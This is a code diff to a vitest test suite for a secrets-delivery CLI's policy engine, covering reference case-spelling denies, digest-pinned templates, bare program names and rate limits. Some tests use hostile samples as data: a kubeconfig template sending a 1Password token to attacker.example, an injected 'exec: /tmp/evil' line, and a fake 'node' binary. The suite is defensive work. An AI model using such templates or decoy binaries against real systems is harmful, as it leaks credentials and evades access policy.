@@ -5,7 +5,8 @@
 // the dry run says what exec then does. Every run is scanned for canary values.
 
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { createHash } from 'node:crypto';
+import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { runClean } from '../helpers/run-cli.js';
 import { createSandbox, REPO_ROOT, type Sandbox } from '../helpers/sandbox.js';
@@ -98,7 +99,8 @@ describe('policy', () => {
     writePolicy(POLICY);
     const denied = await runClean(sb, execArgs('db', 'DATABASE_URL'));
     expect(denied.code).toBe(10);
-    expect(denied.stderr).toContain('denied by policy rule no-deploy');
+    expect(denied.stderr).toContain('request denied: policy rule no-deploy denies it; nobody was asked');
+    expect(denied.stderr).not.toMatch(/no-deploy.*no-deploy/);
     expect(sb.prompts()).toHaveLength(1);
     expect(seen('DATABASE_URL')).toHaveLength(1);
   });
@@ -111,9 +113,79 @@ describe('policy', () => {
     const denied = await runClean(sb, execArgs('cf', 'CF_TOKEN', '--secret', 'EXTRA=op://Infra/Shared/token'));
     expect(denied.code).toBe(10);
     expect(denied.stderr).toContain('approver is none');
-    expect(denied.stderr).toContain('missing rule: {decision: allow, profile: cf, executable: node, secrets: [CF_TOKEN, EXTRA]}');
+    expect(denied.stderr).toContain('missing rule: {decision: allow, profile: cf, executable: node, secrets: [{alias: CF_TOKEN, ref: op://Infra/Cloudflare/token}, {alias: EXTRA, ref: op://Infra/Shared/token}]}');
     expect(sb.prompts()).toHaveLength(0);
     expect(sb.opCalls()).toHaveLength(1);
+  });
+
+  it('a deny by reference holds for every case spelling of the reference', async () => {
+    sb.useApprover('approve', { approver: 'none' });
+    writePolicy(`version: 1
+rules:
+  - id: no-deploy
+    decision: deny
+    secrets: ["op://Infra/Deploy/**"]
+  - id: any-op
+    decision: allow
+    secrets: ["op://**"]
+`);
+    for (const ref of ['op://infra/deploy/username', 'op://INFRA/Deploy/username', 'op://Infra/DEPLOY/secret key']) {
+      const denied = await runClean(sb, ['exec', '--reason', 'x', '--secret', `S=${ref}`, '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, 'S']);
+      expect(denied.code).toBe(10);
+      expect(denied.stderr).toContain('policy rule no-deploy denies it');
+    }
+    expect(sb.opCalls()).toHaveLength(0);
+    expect(seen('S')).toEqual([]);
+  });
+
+  it('a rule listing references does not allow an agent-written template unless it names it', async () => {
+    sb.useApprover('approve', { approver: 'none' });
+    const text = 'server: https://attacker.example\ntoken: {{ op://Infra/Cloudflare/token }}\n';
+    const path = sb.write('kube.tpl', text);
+    const sha = createHash('sha256').update(text).digest('hex');
+    const args = ['exec', '--reason', 'x', '--template', `KUBECONFIG=kube.tpl`, '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, 'KUBECONFIG'];
+    writePolicy('version: 1\nrules:\n  - id: cf\n    decision: allow\n    secrets: ["op://Infra/Cloudflare/token"]\n');
+    const denied = await runClean(sb, args);
+    expect(denied.code).toBe(10);
+    expect(denied.stderr).toContain(`templates: [{path: ${path}, sha256: ${sha}}]`);
+    expect(sb.opCalls()).toHaveLength(0);
+    writePolicy(`version: 1\nrules:\n  - id: cf\n    decision: allow\n    secrets: ["op://Infra/Cloudflare/token"]\n    templates: [{path: kube.tpl, sha256: ${sha}}]\n`);
+    const allowed = await runClean(sb, args);
+    expect(allowed.code).toBe(0);
+    expect(sb.auditEvents().filter((e) => e.event === 'approval_granted').at(-1)).toMatchObject({ approver: 'policy', policy_rule: 'cf' });
+    // Edited: the pinned digest no longer matches.
+    sb.write('kube.tpl', `${text}exec: {command: /tmp/evil}\n`);
+    expect((await runClean(sb, args)).code).toBe(10);
+  });
+
+  it('a bare program name in a rule matches only a program in a system directory', async () => {
+    sb.useApprover('approve', { approver: 'none' });
+    writePolicy('version: 1\nrules:\n  - id: purge\n    decision: allow\n    argv: ["node"]\n    secrets: ["op://Infra/Cloudflare/token"]\n');
+    const fake = join(sb.root, 'bin', 'node');
+    mkdirSync(dirname(fake), { recursive: true });
+    writeFileSync(fake, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
+    const args = (program: string) => ['exec', '--reason', 'x', '--secret', 'CF_TOKEN=op://Infra/Cloudflare/token', '--', program, join(PROGRAMS, 'append-env.mjs'), sb.root, 'CF_TOKEN'];
+    const denied = await runClean(sb, args(fake));
+    expect(denied.code).toBe(10);
+    expect(denied.stderr).toContain(`executable: ${fake}`);
+    const explain = await runClean(sb, ['policy', 'explain', '--reason', 'x', '--secret', 'CF_TOKEN=op://Infra/Cloudflare/token', '--', fake, 'x']);
+    expect(explain.stdout).toContain('a bare program name matches only a program in a system directory');
+    const allowed = await runClean(sb, args('node'));
+    expect(allowed.code).toBe(0);
+    expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
+  });
+
+  it('a rate limit holds across daemon stop: the daemon counts the audited deliveries again', async () => {
+    sb.useApprover('approve', { approver: 'none' });
+    writePolicy('version: 1\nrules:\n  - id: once\n    decision: allow\n    profile: cf\n    rate: {max: 1, per: 1h}\n');
+    const explain = await runClean(sb, ['policy', 'explain', ...execArgs('cf', 'CF_TOKEN').slice(1)]);
+    expect(explain.stdout).toContain('at most 1 per 3600s (counted by the daemon: once spent, denied (approver is none))');
+    expect((await runClean(sb, execArgs('cf', 'CF_TOKEN'))).code).toBe(0);
+    expect((await runClean(sb, ['daemon', 'stop'])).code).toBe(0);
+    const again = await runClean(sb, execArgs('cf', 'CF_TOKEN'));
+    expect(again.code).toBe(10);
+    expect(again.stderr).toContain('policy rule once already allowed its 1 delivery per 3600s');
+    expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
   });
 
   it('headless with no policy at all denies every exec', async () => {
@@ -186,6 +258,9 @@ describe('policy', () => {
     const ok = await runClean(sb, ['policy', 'check']);
     expect(ok.code).toBe(0);
     expect(ok.stdout).toContain('1. deny  no-deploy');
+    // Sound but weak: a deny by name misses the item's id, an alias-only allow any reference.
+    expect(ok.stdout).toContain('warning: rule no-deploy (line 3): a deny by 1Password vault or item name does not cover the same item addressed by its id');
+    expect(ok.stdout).toContain('warning: rule cdn-purge (line 6): secrets by alias only (CF_TOKEN) allow any reference the project file points them at');
   });
 });
 
